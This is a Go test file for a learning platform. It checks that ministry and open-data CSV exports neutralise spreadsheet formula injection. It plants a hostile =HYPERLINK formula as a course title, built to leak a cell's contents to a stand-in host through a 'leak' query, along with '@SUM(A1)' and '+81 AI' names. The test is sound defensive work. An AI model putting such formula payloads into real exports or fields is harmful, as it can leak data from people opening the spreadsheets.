package web_test

import (
	"encoding/csv"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"takumi/internal/csvexport"
	"takumi/internal/fixtures"
)

// formulaCells returns every cell of a CSV body that a spreadsheet would
// run as a formula: one starting with =, +, -, @, tab or CR that is not a
// plain number (csvexport.Cell leaves those alone).
func formulaCells(t *testing.T, body string) []string {
	t.Helper()
	if !strings.HasPrefix(body, csvexport.BOM) {
		t.Fatalf("CSV without a byte order mark: %.80q", body)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, csvexport.BOM)))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, r := range recs {
		for _, cell := range r {
			if csvexport.Cell(cell) != cell {
				bad = append(bad, cell)
			}
		}
	}
	return bad
}

// TestCSVExportsNeutraliseFormulas (issue 15, finding 1): a course an
// instructor published with a formula as its title, a provider's name and a programme's name
// that start with formula characters appear neutralised in every ministry
// CSV export and in the open data CSV. (The roster's own test covers a
// display name; the person's data export is covered in internal/learning.)
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	ta := startApp(t)
	w := newMinistryWorld(t, ta.DB)
	hostile := `=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"詳細")`
	g := ta.DB.Gorm
	// An instructor of a provider publishes the course through the studio's
	// service, and twelve people enrol.
	author := fixtures.MustCreateUser(t, ta.DB, fixtures.User{Email: "formula-author@example.jp"})
	fixtures.MustAddMember(t, ta.DB, "関西デジタル学院", "provider", author, "instructor", false)
	c := progressPublish(t, ta.App, author, w.providers[1], "formula-course", hostile, hostile, "robotics")
	for i := range 12 {
		if err := g.Exec(`INSERT INTO enrolments (user_id, course_id, status, enrolled_at) VALUES (?, ?, 'active', now())`, w.learners[i], c.id).Error; err != nil {
			t.Fatal(err)
		}
	}
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{`UPDATE organisations SET name_ja = ?, name_en = ? WHERE id = ?`, []any{"@SUM(A1)", "@SUM(A1)", w.providers[1]}},
		{`UPDATE programmes SET name_en = ? WHERE code = 'ai-ready'`, []any{"+81 AI"}},
	} {
		if err := g.Exec(q.sql, q.args...).Error; err != nil {
			t.Fatal(err)
		}
	}
	w.catchUp(t)

	t.Run("Ministry", func(t *testing.T) {
		b := w.analystBrowser(t, ta, false)
		doc := b.get("/ministry?compare_a=industry:G&compare_b=industry:E").Doc(t)
		n := 0
		doc.Find(".ministry-export a.export-csv").Each(func(_ int, a *goquery.Selection) {
			href, _ := a.Attr("href")
			u, _ := url.Parse(href)
			r := b.get(href)
			if r.StatusCode != 200 {
				t.Fatalf("%s: %d", href, r.StatusCode)
			}
			n++
			if bad := formulaCells(t, r.Body); len(bad) > 0 {
				t.Errorf("%s: formula cells %q", u.Query().Get("table"), bad)
			}
			switch u.Query().Get("table") {
			case "courses":
				if !strings.Contains(r.Body, `"'=HYPERLINK(""http://127.0.0.1:9/?leak=""&A2,""詳細"")"`) {
					t.Errorf("courses CSV has no neutralised title:\n%s", r.Body)
				}
			case "providers":
				if !strings.Contains(r.Body, "'@SUM(A1)") {
					t.Errorf("providers CSV has no neutralised name:\n%s", r.Body)
				}
			}
		})
		if n != 11 {
			t.Fatalf("%d CSV exports, want 11", n)
		}
		// The issue's own request.
		body := b.get("/ministry/export?table=courses&format=csv").Body
		if strings.Contains(body, "\n\"=HYPERLINK") || !strings.Contains(body, "'=HYPERLINK") {
			t.Fatalf("courses CSV:\n%s", body)
		}
	})
	t.Run("OpenData", func(t *testing.T) {
		body := ta.newBrowser(t).get("/progress/data.csv?programme=ai-ready").Body
		if bad := formulaCells(t, body); len(bad) > 0 {
			t.Errorf("open data formula cells %q", bad)
		}
		if !strings.Contains(body, ",'+81 AI,") {
			t.Errorf("open data CSV has no neutralised programme name:\n%.600s", body)
		}
	})
}
